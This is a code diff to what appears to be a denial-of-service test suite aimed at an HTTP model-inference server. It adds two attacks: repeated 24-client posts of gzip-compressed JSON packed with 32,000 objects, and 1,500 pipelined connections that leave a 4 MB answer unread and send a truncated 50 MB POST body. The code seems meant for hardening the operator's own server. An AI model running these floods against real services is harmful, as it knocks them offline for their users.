@@ -196,12 +196,21 @@ def _leave_unread(attacker: Attacker, samples: int) -> None:
 
 
 def compressed_json(attacker: Attacker) -> None:
-    """3: compressed JSON of nested lists, 8 KB and 20 KB on the wire."""
+    """3a: compressed JSON of nested lists, 8 KB and 20 KB on the wire."""
     small = gzip.compress(b'{"inputs": ' + _lists(8_000_000) + b"}")
     large = gzip.compress(b'{"inputs": [' + b'{"":[]},' * 1_000_000 + b"1]}")
     for _ in range(4):
         attacker.at_once(lambda: attacker.post(_INFER, small, "Content-Encoding: gzip"), 4)
         attacker.at_once(lambda: attacker.post(_INFER, large, "Content-Encoding: gzip"), 4)
+
+
+def costly_json(attacker: Attacker) -> None:
+    """3b: compressed JSON just within the bounds, 32,000 objects in 930 KB, from 24 clients again and again."""
+    objects = b",".join(b'{"name":"a","data":[1,2,3]}' for _ in range(32_000))
+    body = gzip.compress(b'{"inputs": [' + objects + b"]}")
+    while time.monotonic() < attacker.end:
+        attacker.at_once(lambda: attacker.post(_INFER, body, "Content-Encoding: gzip"), 24)
+        time.sleep(0.2)
 
 
 def prefix_authorisation(attacker: Attacker) -> None:
@@ -246,6 +255,20 @@ def pipelined_small(attacker: Attacker) -> None:
         attacker.send(connection, first + b"GET /v2 HTTP/1.1\r\nHost: x\r\n\r\n" * 20_000)
 
     attacker.at_once(send_many, 150)
+    attacker.hold()
+
+
+def pipelined_unread(attacker: Attacker) -> None:
+    """5c: 1,500 connections that leave an answer of 4 MB unread and send 250 KB of a second request."""
+    head = b"GET /assets/plotly.js HTTP/1.1\r\nHost: x\r\n\r\nPOST /predict HTTP/1.1\r\nHost: x\r\n"
+    request = head + b"Content-Length: 50000000\r\n\r\n" + bytes(250_000)
+
+    def send_one() -> None:
+        connection = attacker.connect(4096)
+        connection.settimeout(1.0)
+        attacker.send(connection, request)
+
+    attacker.at_once(send_one, 1500)
     attacker.hold()
 
 
@@ -298,9 +321,11 @@ ATTACKS = (
     Attack(unread_answers),
     Attack(unread_smaller_answers),
     Attack(compressed_json),
+    Attack(costly_json),
     Attack(prefix_authorisation, prefixed=True),
     Attack(pipelined),
     Attack(pipelined_small),
+    Attack(pipelined_unread),
     Attack(silent_handshakes, tls=True, files=_FILES),
     Attack(silent_connections, files=_FILES),
 )
